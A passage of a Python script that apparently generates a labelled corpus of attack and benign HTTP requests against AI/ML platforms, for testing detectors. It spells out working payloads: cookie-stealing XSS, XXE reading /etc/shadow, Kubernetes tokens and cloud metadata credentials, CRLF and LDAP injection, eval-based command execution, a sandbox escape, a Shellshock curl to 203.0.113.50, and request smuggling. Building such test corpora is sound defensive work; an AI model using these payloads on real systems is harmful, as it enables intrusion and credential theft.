        emit("xss", "dataset-label", "POST", f"/api/tasks/{R.randint(1, 9999)}/annotations",
             headers("labelstudio", "browser", auth=None, extra=[["X-CSRFToken", rs(64)]]),
             {"result": [{"from_name": "label", "to_name": "text", "type": "labels", "value": {"start": 0, "end": 4, "text": "Acme", "labels": [p]}}]})
    emit("xss", "dataset-label", "PATCH", "/api/projects/12", headers("labelstudio", "browser", auth=None),
         {"label_config": "<View><Text name=\"t\" value=\"$text\"/><Choices name=\"c\" toName=\"t\"><Choice value=\"a\" hint=\"" + XSS[7] + "\"/></Choices></View>"})
    emit("xss", "dataset-import", "POST", "/api/projects/12/import", headers("labelstudio", "requests", auth=None),
         [{"data": {"text": "Normal text", "html": XSS[5]}}])
    # model cards (markdown) and README commits
    for p in [XSS[3], XSS[6], XSS[8], XSS[11]]:
        card = "---\nlicense: mit\n---\n# Intent classifier\n\nSee " + p + " for evaluation.\n"
        use_b64 = R.random() < 0.4
        b = {"summary": "Update README", "operations": [{"key": "file", "value": {"path": "README.md",
             "content": base64.b64encode(card.encode()).decode() if use_b64 else card,
             "encoding": "base64" if use_b64 else "utf-8"}}]}
        emit("xss", "model-card", "POST", "/api/models/acme/intent-classifier/commit/main", headers("hf", "hf", auth="hf"), b)
    ct, body = multipart([("path", "assets/chart.svg")], [("file", "chart.svg", "image/svg+xml",
                          "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.cookie)\"><circle r=\"40\"/></svg>")])
    emit("xss", "svg-upload", "POST", "/api/models/acme/intent-classifier/upload/main", headers("hf", "requests", ctype=ct, auth="hf"), body)
    # MLflow run description / registered model description
    emit("xss", "mlflow", "POST", "/api/2.0/mlflow/runs/set-tag", headers("mlflow", "mlflow", auth="jwt"),
         {"run_id": rs(32, HEX), "key": "mlflow.note.content", "value": XSS[9]})
    emit("xss", "mlflow", "PATCH", "/api/2.0/mlflow/registered-models/update", headers("mlflow", "mlflow", auth="jwt"),
         {"name": "fraud-detector", "description": "Prod model " + XSS[0]})
    # reflected via query
    emit("xss", "reflected", "GET", "/v1/retrieve?" + q({"q": XSS[2], "tenant": "acme"}), headers("rag", "browser", ctype=None, auth="jwt"))
    emit("xss", "reflected", "GET", "/ajax-api/2.0/mlflow/experiments/search?max_results=25&filter=" + quote(XSS[1], safe=""), headers("mlflow", "browser", ctype=None, auth=None))
    emit("xss", "reflected", "GET", "/ui/chat?prompt=%3Cscript%3Ealert(1)%3C%2Fscript%3E", headers("gw", "browser", ctype=None, auth=None))
    # prompt template used in an HTML widget
    emit("xss", "prompt-template", "POST", "/api/v1/prompts", headers("prompts", "httpx", auth="jwt"),
         {"name": "widget-greeting", "template": "Hi {{ name }}! <img src=x onerror=alert(document.cookie)>", "template_format": "jinja2"})


XXE = [
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://203.0.113.50/evil.dtd"> %ext;]><foo/>',
    '<!DOCTYPE d [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><d>&x;</d>',
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "php://filter/convert.base64-encode/resource=/app/.env">]><x>&s;</x>',
]


def gen_attack_xxe():
    docx = ('PK\x03\x04\x14\x00\x06\x00word/document.xml<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>')
    ct, body = multipart([("collection", "contracts")], [("file", "msa-2024.docx",
                          "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx)])
    emit("xxe", "docx-ingest", "POST", "/v1/ingest/files", headers("rag", "requests", ctype=ct, auth="jwt"), body)
    ct, body = multipart([("collection", "kb")], [("file", "sitemap.xml", "application/xml", XXE[0])])
    emit("xxe", "xml-ingest", "POST", "/v1/ingest/files", headers("rag", "browser", ctype=ct, auth="jwt"), body)
    for p in XXE[1:4]:
        emit("xxe", "raw-xml", "POST", R.choice(["/v1/ingest/xml", "/api/projects/4/import", "/v1/ingest/sitemap"]),
             headers(R.choice(["rag", "labelstudio"]), "requests", ctype=R.choice(["application/xml", "text/xml"]), auth="jwt"), p)
    emit("xxe", "json-wrapped", "POST", "/v1/ingest/documents", headers("rag", "httpx", auth="jwt"),
         {"collection": "kb", "documents": [{"id": uuid4(), "content_type": "application/xml", "text": XXE[4]}]})
    emit("xxe", "label-config", "PATCH", "/api/projects/7", headers("labelstudio", "browser", auth=None),
         {"label_config": '<!DOCTYPE View [<!ENTITY x SYSTEM "file:///etc/hostname">]><View><Header value="&x;"/><Text name="t" value="$text"/></View>'})
    emit("xxe", "svg", "POST", "/v2/models/resnet50/infer", headers("triton", "requests", auth="jwt"),
         {"inputs": [{"name": "image_svg", "shape": [1], "datatype": "BYTES",
                      "data": ['<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///proc/self/environ">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>']}]})
    emit("xxe", "xinclude", "POST", "/v1/ingest/xml", headers("rag", "requests", ctype="application/xml", auth="jwt"),
         '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></doc>')
    emit("xxe", "soap", "POST", "/ws/FeatureService", headers("feast", "go", ctype="text/xml; charset=utf-8", auth=None,
         extra=[["SOAPAction", "getFeatures"]]),
         '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "file:///etc/shadow">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><id>&x;</id></soap:Body></soap:Envelope>')


def gen_attack_crlf():
    # header-forwarding params on gateways/proxies
    for val in ["acme%0d%0aX-Forwarded-User:%20admin",
                "en%0D%0ASet-Cookie:%20session=attacker%3B%20Path=/",
                "%E5%98%8A%E5%98%8DX-Injected:%20yes",
                "x%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"]:
        p = R.choice(["/v1/proxy?forward_header=X-Tenant%3A", "/v1/chat/completions?tenant=", "/oauth/callback?next=/ui&lang="])
        emit("crlf", "query", "GET" if "completions" not in p else "POST", p + val,
             headers("gw", "requests", ctype=None if "completions" not in p else "application/json"),
             None if "completions" not in p else chat_body())
    emit("crlf", "extra-headers", "POST", "/v1/chat/completions", chat_headers(),
         {"model": "openai/gpt-4o", "messages": [{"role": "user", "content": "hi"}],
          "extra_headers": {"X-Trace": "abc\r\nAuthorization: Bearer sk-admin-override"}})
    emit("crlf", "extra-headers", "POST", "/model/new", headers("gw", "requests"),
         {"model_name": "m", "litellm_params": {"model": "openai/x", "headers": {"X-Team": "acme\r\nX-Admin: true\r\n"}}})
    agent_invoke("crlf", "tool-headers", "http_request",
                 {"method": "GET", "url": "https://api.partner.example.com/v1/status", "headers": {"User-Agent": "bot\r\nHost: internal-admin.svc\r\n\r\nGET /admin HTTP/1.1"}})
    emit("crlf", "webhook", "POST", "/api/v1/webhooks", headers("prompts", "httpx", auth="jwt"),
         {"url": "https://hooks.example.com/x", "headers": {"X-Signature": "s%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"}})
    emit("crlf", "redirect", "GET", "/login?" + "next=%2Fui%0d%0aLocation:%20https://evil.example.net", headers("mlflow", "browser", ctype=None, auth=None))


def gen_attack_ldapi():
    for u in ["*)(uid=*))(|(uid=*", "admin)(&(objectClass=*)", "*)(|(memberOf=cn=admins,ou=groups,dc=acme,dc=io)",
              "jdoe)(userPassword=*", "*))%00"]:
        if R.random() < 0.5:
            emit("ldapi", "user-lookup", "GET", "/api/v1/users/lookup?" + q({"uid": u}), headers("prompts", "requests", ctype=None, auth="jwt"))
        else:
            emit("ldapi", "user-lookup", "POST", "/api/v1/users/search", headers("labelstudio", "httpx", auth="jwt"), {"username": u, "attrs": ["mail", "cn"]})
    agent_invoke("ldapi", "agent-tool", "lookup_employee", {"name": "*)(|(objectClass=*)(cn=*"})
    emit("ldapi", "tool-call", "POST", "/v1/chat/completions", chat_headers(),
         tool_call_body("lookup_employee", json.dumps({"email": "x*)(|(mail=*)(department=*"})))
    emit("ldapi", "login", "POST", "/hub/login", headers("jupyter", "browser", ctype="application/x-www-form-urlencoded", auth=None),
         "username=" + quote("admin)(|(password=*)", safe="") + "&password=x&_xsrf=" + rs(32))


def gen_attack_generic():
    # misc: prototype pollution in agent config, Node eval, mass-assignment-like escalations with code
    emit("generic", "proto-pollution", "POST", "/api/v1/agents/config", headers("agent", "httpx", auth="jwt"),
         '{"name": "helper", "__proto__": {"isAdmin": true, "shell": "/bin/sh", "NODE_OPTIONS": "--require /proc/self/environ"}}')
    emit("generic", "proto-pollution", "POST", "/api/v1/agents/config", headers("agent", "httpx", auth="jwt"),
         {"constructor": {"prototype": {"execArgv": ["--eval=require('child_process').execSync('id')"]}}})
    emit("generic", "node-eval", "POST", "/v1/chat/completions", chat_headers(),
         tool_call_body("calculator", json.dumps({"expression": "require('child_process').execSync('cat /etc/passwd').toString()"})))
    emit("generic", "python-eval", "POST", "/api/v1/tools/calculator", headers("agent", "requests", auth="jwt"),
         {"expression": "__import__('os').popen('id').read()"})
    emit("generic", "sandbox-escape", "POST", "/api/v1/tools/python", headers("agent", "requests", auth="jwt"),
         {"code": "().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['system']('sh')"})
    emit("generic", "shellshock", "GET", "/cgi-bin/status.cgi", headers("triton", "curl", ctype=None, auth=None,
         extra=[["Referer", "() { :; }; /bin/bash -c 'curl http://203.0.113.50/ss'"]]))


def gen_attack_protocol():
    h = headers("gw", "requests")
    h.append(["Transfer-Encoding", "chunked"])
    h.append(["Content-Length", "4"])
    emit("protocol", "smuggling", "POST", "/v1/chat/completions", h,
         "5c\r\nGPOST /v1/models HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n")
    h = headers("gw", "requests")
    h.append(["Transfer-Encoding", " chunked"])
    h.append(["Transfer-Encoding", "identity"])
    emit("protocol", "smuggling", "POST", "/v1/embeddings", h, "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n")
    h = headers("gw", "requests")
    h += [["Content-Length", "18"], ["Content-Length", "60"]]
    emit("protocol", "duplicate-cl", "POST", "/v1/completions", h, '{"model":"x","prompt":"hi"}')
    emit("protocol", "bad-method", "TRACK", "/v1/models", headers("vllm", "curl", ctype=None))
    emit("protocol", "abs-uri-host", "GET", "http://169.254.169.254/latest/meta-data/", headers("gw", "curl", ctype=None))


# ------------------------------------------------------------------- main ---

BENIGN_GENS = [gen_benign_chat, gen_benign_completions, gen_benign_embeddings, gen_benign_tools,
               gen_benign_rag, gen_benign_vector, gen_benign_serving, gen_benign_mlflow, gen_benign_hub,
               gen_benign_tools_ui, gen_benign_prompts, gen_benign_platform, gen_dev_content]
ATTACK_GENS = [gen_attack_sqli, gen_attack_nosqli, gen_attack_ssrf, gen_attack_lfi, gen_attack_lfi_more,
               gen_attack_rfi_php, gen_attack_rce, gen_attack_deser, gen_attack_ssti, gen_attack_java,
               gen_attack_xss, gen_attack_xxe, gen_attack_crlf, gen_attack_ldapi, gen_attack_generic,
               gen_attack_protocol]


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-aiml.py attacks|benign\n")
        return 2
    R.seed("aiml-" + argv[1])
    for g in (ATTACK_GENS if argv[1] == "attacks" else BENIGN_GENS):
        g()
    seen = set()
    for rec in OUT:
        assert rec["id"] not in seen, rec["id"]
        seen.add(rec["id"])
        sys.stdout.write(json.dumps(rec, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
